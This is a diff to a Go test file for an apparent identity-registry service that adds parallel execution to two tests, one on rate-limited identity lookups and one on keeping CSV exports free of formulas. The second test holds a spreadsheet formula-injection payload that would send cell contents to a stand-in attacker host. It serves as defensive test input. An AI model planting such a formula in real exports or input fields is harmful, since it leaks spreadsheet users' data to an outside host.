@@ -10,6 +10,7 @@ import (
 // A checkpoint key looks people up by identity number at a desk's pace; a
 // stolen one cannot walk the register. Refused input costs nothing.
 func TestIdentityLookupsAreRateLimited(t *testing.T) {
+	t.Parallel()
 	forEach(t, func(t *testing.T, e *env) {
 		e.Resident("13900000601", "刘备查", rid("19700101", 601), "341881001")
 		checkpoint := func(name string) string {
@@ -49,6 +50,7 @@ func TestIdentityLookupsAreRateLimited(t *testing.T) {
 // Names typed by someone reach operators' spreadsheets through the CSV
 // exports; one that starts like a formula is exported as text.
 func TestCSVExportsDoNotCarryFormulas(t *testing.T) {
+	t.Parallel()
 	forEach(t, func(t *testing.T, e *env) {
 		admin := e.Admin()
 		formula := `=HYPERLINK("http://evil.example/?"&A1,"点我")`
